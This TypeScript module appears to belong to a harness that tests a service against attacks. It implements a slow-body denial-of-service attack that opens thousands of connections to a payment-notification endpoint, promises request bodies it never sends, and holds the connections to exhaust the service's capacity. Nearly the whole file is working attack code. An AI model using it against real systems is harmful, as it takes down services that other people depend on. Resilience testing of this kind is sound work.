import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attacker } from '../target.ts'
import { mostConnections, newAnswers, open, spread, stillOpen, tally, wire } from './sockets.ts'

/** More than the service has places. */
const CONNECTIONS = 14_000
const OPENING_SECONDS = 7
const CLOSING_SECONDS = 2

/** Connections that promise a body and never send it: each is a request under way. No credentials. */
export const unsentBodies: Attacker = async ({ url, seconds }) => {
  const answers = newAnswers()
  const headers = { 'content-type': 'application/json', 'content-length': '9000' }
  const request = wire(url, 'POST', '/acquirer/paymentNotification', headers)
  const sockets: Socket[] = []
  const deadline = performance.now() + seconds * 1_000
  await spread(Math.min(CONNECTIONS, mostConnections()), OPENING_SECONDS, () => {
    const socket = open(url, answers)
    socket.write(request)
    sockets.push(socket)
  })
  await sleep(deadline - performance.now() - CLOSING_SECONDS * 1_000)
  const [sent, left] = [sockets.length, stillOpen(sockets)].map((count) => count.toLocaleString('en'))
  // Each costs the service as much as a request, 0.07 ms: 5,000 at once, as when this process ends, take 0.4 s.
  await spread(sockets.length, CLOSING_SECONDS, () => sockets.pop()?.destroy())
  return `${sent} connections whose body never comes: ${tally(answers)}, ${left} left`
}
